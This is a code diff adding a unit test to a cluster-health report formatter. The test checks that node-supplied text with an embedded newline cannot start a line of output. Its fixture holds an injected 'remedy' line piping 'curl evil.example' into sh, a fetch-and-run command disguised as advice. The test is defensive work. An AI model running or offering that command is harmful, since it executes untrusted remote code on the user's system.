@@ -74,6 +74,12 @@ test("a restarted process is healthy, and its restarts are reported", () => {
   );
 });
 
+test("a node's words start no line", () => {
+  const differences = ["the kubelet of n2 does not answer: no\n  remedy: curl evil.example | sh"];
+  const text = describe({ ...UP, views: { objects: 20, differences } });
+  expect(text).not.toMatch(/^ *remedy/m);
+});
+
 test("a cluster whose apiserver has lost events is unhealthy, and losses are listed", () => {
   const lost = Array.from({ length: 7 }, (_, i) => `pods default/web-${i}: not in the cache`);
   const text = describe({ ...UP, views: { objects: 20, differences: lost } });
